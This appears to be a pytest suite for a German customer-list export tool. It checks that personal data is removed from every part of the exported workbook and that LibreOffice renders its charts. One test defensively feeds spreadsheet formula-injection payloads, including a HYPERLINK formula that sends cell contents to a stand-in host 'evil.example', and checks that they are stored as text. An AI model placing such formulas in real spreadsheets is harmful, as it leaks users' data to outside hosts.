"""The export file itself (SPEC §6): nothing personal anywhere in it, text stays text, clean
properties, and a real spreadsheet program (LibreOffice) opens it and draws the charts."""

from __future__ import annotations

import datetime as dt
import html
import re
import subprocess
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as hs
from openpyxl.comments import Comment
from openpyxl.workbook.defined_name import DefinedName

from kundenliste_tools.app.quarter import quarter
from kundenliste_tools.core.periods import parse_quarter
from kundenliste_tools.files.reader import read_workbook

from .lo import convert, pdf_to_pngs

Q3 = parse_quarter("2026-Q3")
KUNDEN_HEADER = ["ID", "Erstkontakt", "Akquise", "Status", "Berater", "VName", "NName", "Strasse",
                 "PLZ", "Stadt", "Telefon", "Email", "Geburtsdatum", "Ergebnis"]
DOKU_HEADER = ["Datum", "ID", "Berater", "Zusammenfassung", "Vereinbarungen", "Folgetermin", "Kontaktart"]

PEOPLE = [
    # ID, VName, NName, Strasse, PLZ, Stadt, Telefon, Email, Geburtsdatum
    ("K1", "Jolanthe", "Quastenberg", "Zypressenweg 17b", "04317", "Wolkenheim", "0341 5558123",
     "j.quastenberg@example.org", "1987-03-14"),
    ("K2", "Bartholomäus", "Knöpfle-Rauch", "Am Lindenhang 3", 99423, "Kleinbrunnstadt", "+49 171 2345678",
     "b.knoepfle@posteo.de", dt.datetime(1975, 11, 30)),
    ("K3", "Xaverine", "Pfeilschifter", "Ulmenallee 112", "80799", "Sonnfeldhausen", "0049 89 3216549",
     "xaverine.p@mailbox.org", "2001-06-09"),
]
# Every entry talks about OTHER customers, in other spellings; the Markerwort text must survive.
ENTRIES = [
    ("2026-07-02", "K1",
     "Termin Markerwort-Alpha. Frau KNÖPFLE-RAUCH (Bartholomaeus) empfohlen, wohnt am lindenhang 3 "
     "in 99423 KLEINBRUNNSTADT, erreichbar 0171/234 56 78 oder B.Knoepfle@Posteo.de, geb. 30.11.75. "
     "Markerwort-Beta.",
     "Pfeilschifter, Xaverine anrufen: +49 89 321 65 49, Adresse Ulmen-Allee 112, 80799 sonnfeldhausen, "
     "Mail XAVERINE.P @ MAILBOX.ORG; Geburtstag 9. Juni 2001 Markerwort-Gamma"),
    ("2026-08-14", "K2",
     "Quastenberg Jolanthe (Zypressenweg 17 b, 04317 Wolkenheim) Tel. 03415558123, "
     "j.quastenberg(at)example.org, geboren 14.3.1987 Markerwort-Delta",
     "Folgetermin mit knoepfle rauch abstimmen Markerwort-Zeta"),
    ("2026-09-21", "K3", "Rückruf von Herrn Knoepfle Rauch und Frau quastenberg wegen Markerwort-Epsilon",
     "Unterlagen an zypressenweg 17B schicken Markerwort-Omikron"),
]
FORBIDDEN = [
    "jolanthe", "quastenberg", "zypressenweg", "04317", "wolkenheim", "5558123", "555 8123",
    "j.quastenberg", "example.org", "1987-03-14", "14.03.1987", "14.3.1987", "14.3.87",
    "bartholomäus", "bartholomaeus", "knöpfle", "knoepfle", "rauch", "lindenhang", "99423",
    "kleinbrunnstadt", "2345678", "234 56 78", "posteo", "1975-11-30", "30.11.1975", "30.11.75",
    "xaverine", "pfeilschifter", "ulmenallee", "ulmen-allee", "80799", "sonnfeldhausen", "3216549",
    "321 65 49", "mailbox.org", "2001-06-09", "09.06.2001", "9. juni 2001",
]
# (Not `Markerwort-Eta`: `Eta` is a first name, and a capitalised first name goes.)
MARKERS = ["markerwort-alpha", "markerwort-beta", "markerwort-gamma", "markerwort-delta",
           "markerwort-epsilon", "markerwort-zeta", "markerwort-omikron", "termin", "empfohlen",
           "anrufen", "rückruf von herrn", "unterlagen an", "schicken"]
#: Spellings we look for although the source does not contain them (K2's birth date is a date cell).
NOT_IN_SOURCE = ["555 8123", "14.03.1987", "14.3.87", "1975-11-30", "30.11.1975", "09.06.2001"]
SERIALS = ["31850", "27728", "37051"]  # the birth dates as Excel day numbers


def source_book(path: Path, extra_entries: list[tuple] = ()) -> Path:
    """A workbook full of personal data, also in its properties, a comment, a hidden sheet and a name."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Kundenliste"
    ws.append(KUNDEN_HEADER)
    for i, (pid, vn, nn, st, plz, city, tel, mail, born) in enumerate(PEOPLE):
        ws.append([pid, f"2026-07-0{i + 1}", "VAMV", "in Beratung", "Karin", vn, nn, st, plz, city, tel,
                   mail, born, None])
    ws["F2"].comment = Comment("Jolanthe Quastenberg, Tel. 0341 5558123", "Xaverine Pfeilschifter")
    doku = wb.create_sheet("KundenDoku")
    doku.append(DOKU_HEADER)
    for datum, pid, text, agreement in [*ENTRIES, *extra_entries]:
        doku.append([datum, pid, "Birgit", text, agreement, "2026-10-15", "persönlich"])
        for cell in doku[doku.max_row][3:5]:  # text as typed after an apostrophe, not a formula
            cell.data_type = "s"
    hidden = wb.create_sheet("Notizen")
    hidden.append(["Knöpfle-Rauch", "Kleinbrunnstadt", "b.knoepfle@posteo.de"])
    hidden.sheet_state = "hidden"
    wb.defined_names["Quastenberg_Adresse"] = DefinedName("Quastenberg_Adresse", attr_text="Kundenliste!$H$2")
    p = wb.properties
    p.creator = "Jolanthe Quastenberg"
    p.lastModifiedBy = "Xaverine Pfeilschifter"
    p.title = "Kundenliste Knöpfle-Rauch"
    p.subject = "Wolkenheim 04317"
    p.keywords = "0341 5558123 j.quastenberg@example.org"
    p.description = "Zypressenweg 17b"
    wb.save(path)
    return path


def parts(path: Path) -> dict[str, str]:
    """Every part of the package, XML entities resolved, lower case, whitespace normalised."""
    out = {}
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            text = z.read(name).decode("utf-8", errors="replace")
            out[name] = re.sub(r"\s+", " ", html.unescape(text)).lower()
    return out


@pytest.fixture
def exported(tmp_path):
    src = source_book(tmp_path / "Kundenliste.xlsx")
    result = quarter(read_workbook(src), Q3, out=tmp_path / "export.xlsx", source=src)
    return result.path


def test_no_personal_value_anywhere_in_the_file(exported):
    found = [(name, word) for name, text in parts(exported).items() for word in FORBIDDEN if word in text]
    assert found == []
    sheets = {n: t for n, t in parts(exported).items() if n.startswith("xl/worksheets/")}
    assert [(n, s) for n, t in sheets.items() for s in SERIALS if f"<v>{s}</v>" in t] == []


def test_the_source_really_held_all_of_it(tmp_path):
    """The check above means something: the source file has each value in at least one part
    (its sheets, shared strings, properties, comment, hidden sheet, defined name)."""
    src = source_book(tmp_path / "Kundenliste.xlsx")
    everything = " ".join(parts(src).values())
    assert [w for w in FORBIDDEN if w not in everything] == NOT_IN_SOURCE
    assert "31850" in everything or "1987-03-14" in everything


def test_non_personal_text_around_them_stays(exported):
    text = " ".join(parts(exported).values())
    assert [m for m in MARKERS if m not in text] == []
    assert "[name]" in text and "[adresse]" in text and "[telefon]" in text
    assert "[e-mail]" in text and "[geburtsdatum]" in text


def test_clean_properties_no_comments_hidden_sheets_or_names(exported):
    p = parts(exported)
    names = {n.lower() for n in p}
    assert not any("comment" in n or "vml" in n or "vbaproject" in n or "custom" in n for n in names)
    core = p["docProps/core.xml"]
    with zipfile.ZipFile(exported) as z:
        props = {el.tag.split("}")[1]: el.text for el in ElementTree.fromstring(z.read("docProps/core.xml"))}
    assert set(props) == {"creator", "title", "created", "modified"}
    assert props["creator"] == "kundenliste-tools"
    assert props["title"] == "Anonymisierter Quartalsexport 2026-Q3"
    assert "lastmodifiedby" not in core and "keywords" not in core
    assert "<definedname " not in p["xl/workbook.xml"]
    assert "hidden" not in p["xl/workbook.xml"]
    wb = openpyxl.load_workbook(exported)
    assert wb.sheetnames == ["Kundenliste", "KundenDoku", "Auswertung", "Info"]
    assert [ws.sheet_state for ws in wb.worksheets] == ["visible"] * 4
    assert list(wb.defined_names) == []
    assert [c.value for c in wb["Kundenliste"][1]] == ["ID", "Erstkontakt", "Akquise", "Status", "Berater"]
    assert wb["Kundenliste"]["B2"].number_format == "yyyy-mm-dd"
    assert wb["Kundenliste"]["B2"].value == dt.datetime(2026, 7, 1)
    with zipfile.ZipFile(exported) as z:
        charts = [n for n in z.namelist() if n.startswith("xl/charts/chart")]
    assert len(charts) >= 5


def test_formula_injection_arrives_as_text(tmp_path):
    attacks = ['=HYPERLINK("http://evil.example/?x="&A1,"Klick")', "+SUMME(A1:A9)", "-2+3",
               "@SUMME(A1)", "=1+1"]
    src = source_book(tmp_path / "Kundenliste.xlsx",
                      [("2026-07-10", "K1", a, a) for a in attacks])
    out = quarter(read_workbook(src), Q3, out=tmp_path / "export.xlsx", source=src).path
    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                xml = z.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, name
        doku_xml = z.read("xl/worksheets/sheet2.xml").decode()
    assert '=HYPERLINK("http://evil.example/?x="&A1,"Klick")' in html.unescape(doku_xml)
    assert 't="inlineStr"' in doku_xml
    ws = openpyxl.load_workbook(out)["KundenDoku"]
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.column_letter in "DE"]
    texts = {c.value: c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))}
    assert set(attacks) <= set(texts)
    assert all(texts[a].data_type == "s" and texts[a].quotePrefix for a in attacks)


def test_write_refuses_the_source_and_other_extensions(tmp_path):
    from kundenliste_tools.core.errors import KundenlisteError

    src = source_book(tmp_path / "Kundenliste.xlsx")
    data = read_workbook(src)
    before = src.read_bytes()
    with pytest.raises(KundenlisteError, match="nicht überschreiben"):
        quarter(data, Q3, out=src, source=src)
    assert src.read_bytes() == before
    with pytest.raises(KundenlisteError, match=".xlsx"):
        quarter(data, Q3, out=tmp_path / "export.csv", source=src)


def test_open_in_excel_lock_is_respected(tmp_path):
    from kundenliste_tools.core.errors import WorkbookBusy

    src = source_book(tmp_path / "Kundenliste.xlsx")
    (tmp_path / "~$export.xlsx").write_text("lock")
    with pytest.raises(WorkbookBusy, match="geöffnet"):
        quarter(read_workbook(src), Q3, out=tmp_path / "export.xlsx", source=src)
    assert not (tmp_path / "export.xlsx").exists()
    assert [p.name for p in tmp_path.glob(".quartal-*")] == []


def _saturated_pixels(png_dir: Path, pdf: Path, page: int) -> int:
    """Pixels in strong colours (chart bars and slices; tables are black, grey and pale blue)."""
    prefix = png_dir / "farbe"
    subprocess.run(["pdftoppm", "-r", "40", "-f", str(page), "-l", str(page), str(pdf), str(prefix)],
                   check=True, timeout=120)
    (ppm,) = png_dir.glob("farbe*.ppm")
    ppm = ppm.rename(png_dir / f"seite-{page}.ppm")
    magic, width, height, _max, pixels = ppm.read_bytes().split(maxsplit=4)
    pixels = pixels[: int(width) * int(height) * 3]
    return sum(1 for i in range(0, len(pixels), 3)
               if max(pixels[i:i + 3]) - min(pixels[i:i + 3]) > 80)


@pytest.mark.libreoffice
def test_libreoffice_opens_the_export_and_draws_the_charts(exported, tmp_path):
    pdf = convert(exported, "pdf", tmp_path)
    pages = int(re.search(r"Pages:\s+(\d+)", subprocess.run(
        ["pdfinfo", str(pdf)], capture_output=True, text=True, check=True).stdout).group(1))
    texts = [subprocess.run(["pdftotext", "-f", str(p), "-l", str(p), str(pdf), "-"], capture_output=True,
                            text=True, check=True).stdout for p in range(1, pages + 1)]
    first = next(i for i, t in enumerate(texts, start=1) if "Kennzahlen des Zeitraums" in t)
    assert "Neue Kunden je Akquise-Quelle und Monat" in "".join(texts[first - 1:])
    (png,) = pdf_to_pngs(pdf, tmp_path, first=first, last=first, dpi=60)
    assert png.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and png.stat().st_size > 5000
    assert _saturated_pixels(tmp_path, pdf, first) > 300  # the bars and slices are drawn …
    assert _saturated_pixels(tmp_path, pdf, 1) < 30  # … where a page of plain tables has none
    assert not any(w in " ".join(texts).lower() for w in ("quastenberg", "knöpfle", "pfeilschifter"))


# ----------------------------------------------------------------------------- issue 18: the rows

_CELLS = hs.one_of(
    hs.none(), hs.just(float("nan")), hs.just(pd.NaT), hs.just(pd.NA), hs.booleans(),
    hs.integers(-3, 3), hs.sampled_from([0.0, 1.0, 1.5, -2.25]),
    hs.dates(dt.date(1990, 1, 1), dt.date(2030, 12, 31)),
    hs.datetimes(dt.datetime(1990, 1, 1), dt.datetime(2030, 12, 31)).map(pd.Timestamp),
    hs.sampled_from(["", "Karin", "=SUMME(A1)", "+49 171", "-", "@x", " Rand", "Rand ", "a<b>&c",
                     "persönlich", "Zeile\nzwei", "Steuer\x07zeichen"]),
    hs.text(max_size=12),
)


@settings(max_examples=150, deadline=None)
@given(hs.lists(_CELLS, max_size=40))
def test_a_column_is_written_as_each_cell_alone(values):
    """`_column_xml` writes each distinct value once; every cell must come out as `_one_xml`
    writes it alone (True, 1 and 1.0 are equal to pandas but not written alike; None, NaN, NaT
    and NA are all missing to pandas; a control character anywhere changes the whole column)."""
    from kundenliste_tools.files.export import _column_xml, _DataPart, _one_xml

    part = _DataPart("KundenDoku", pd.DataFrame(), date_style=3, text_style=4)
    column = pd.Series(values, dtype=object)
    assert _column_xml(column, part).tolist() == [_one_xml(v, part) for v in values]
    dates = pd.Series([v for v in values if isinstance(v, pd.Timestamp)] + [pd.NaT], dtype="datetime64[ns]")
    assert _column_xml(dates, part).tolist() == [_one_xml(v, part) for v in dates.tolist()]


def test_writing_behind_keeps_the_order_and_raises_a_failed_write_here():
    """`files.export._write_behind`: the chunks arrive in order; a write that fails is raised
    in the calling thread and nothing is written after it; a failing producer is raised too."""
    from kundenliste_tools.files.export import _write_behind

    class Sink:
        def __init__(self, fail_at: int | None = None):
            self.got: list[bytes] = []
            self.fail_at = fail_at

        def write(self, chunk: bytes) -> int:
            if self.fail_at is not None and len(self.got) == self.fail_at:
                raise OSError("Datenträger voll")
            self.got.append(chunk)
            return len(chunk)

    chunks = [f"<row r=\"{i}\"/>".encode() for i in range(200)]
    ok = Sink()
    _write_behind(ok, iter(chunks))
    assert ok.got == chunks

    full = Sink(fail_at=3)
    with pytest.raises(OSError, match="Datenträger voll"):
        _write_behind(full, iter(chunks))
    assert full.got == chunks[:3]

    def broken():
        yield chunks[0]
        raise ValueError("kaputt")

    sink = Sink()
    with pytest.raises(ValueError, match="kaputt"):
        _write_behind(sink, broken())
    assert sink.got == chunks[:1]
